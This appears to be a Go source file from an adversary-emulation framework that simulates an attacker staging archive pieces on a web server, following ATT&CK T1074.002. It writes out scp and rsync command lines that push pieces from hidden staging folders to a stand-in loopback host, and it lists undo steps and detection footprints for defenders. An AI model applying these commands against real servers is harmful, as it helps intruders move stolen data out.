package behaviour

import (
	"github.com/ringer-lab/ringer/emulation/artifact"
	"github.com/ringer-lab/ringer/emulation/asset"
	"github.com/ringer-lab/ringer/emulation/effect"
)

var _ = register[remoteStageCopy](About{
	Name:      "remote_stage_copy",
	Technique: "T1074.002",
	Also:      []string{"T1021.004"},
	Actors:    []string{"emissary_panda"},
	Assets:    []string{"billing"},
	Platform:  effect.Linux,
	Phase:     "staging",
	Summary:   "stand-ins of scp and rsync are called as if they moved pieces of an archive to the web server; a folder below /net stands for that host, and nothing is connected",
	Footprint: "scp with ssh below it, and rsync, started from the mediation account's shell; copies below /net, written by the receiving end",
	Undo:      "remove the copies and what stands for the other host",
	Source:    "ATT&CK v18.1 G0027 T1074.002 (archives moved to internet-facing servers that held a web shell, on Windows); Linux tools by analogy",
})

type remoteStageCopy struct {
	Tool   string `arg:"tool" doc:"what copies" oneof:"scp,rsync,both" default:"both"`
	Folder string `arg:"folder" doc:"where the pieces lie" oneof:"font_unix,ice_cache,pulse_shm,plain,user_cache" default:"font_unix"`
}

// otherHost is the web server's end: an address of the lab's loopback, and the
// folder that stands for its disk.
const (
	otherHost     = "deploy@127.0.10.3"
	otherHostDisk = "/net/127.0.10.3"
)

// Plan gives the host the pieces, as a step before would have left them.
func (r remoteStageCopy) Plan(on asset.Host) effect.StepPlan {
	service := on.Account("service")
	at := session{user: service, dir: homes[service]}
	target := portal + "assets/img/"
	var plan effect.StepPlan
	var acts, arrived []effect.Act
	move := func(name string) (piece string) {
		piece = stagingFolders[r.Folder] + "/" + name
		copied := otherHostDisk + target + name
		plan.Preconditions = append(plan.Preconditions, effect.Precondition{Path: piece, Content: artifact.MarkedComment("a piece without records: " + name)})
		plan.Checks = append(plan.Checks, effect.SameAs{Path: copied, As: piece})
		arrived = append(arrived, effect.Copy{From: piece, To: copied})
		return piece
	}
	if r.Tool != "rsync" {
		piece := move("p.00")
		ssh := at.run("/usr/bin/ssh", words("ssh -x -oPermitLocalCommand=no -oClearAllForwardings=yes -o BatchMode=yes -l deploy -s -- 127.0.10.3 sftp"))
		acts = append(acts, at.run("/usr/bin/scp", words("scp -q -o BatchMode=yes "+piece+" "+otherHost+":"+target), ssh))
	}
	if r.Tool != "scp" {
		piece := move("p.01")
		acts = append(acts, at.run("/usr/bin/rsync", words("rsync -a --partial -e ssh "+piece+" "+otherHost+":"+target)))
	}
	receiver := session{user: "root", dir: "/"}.daemon("/usr/sbin/sshd", "sshd: deploy@notty", arrived...)
	plan.Processes = []effect.Process{at.login(acts...), receiver}
	return plan
}
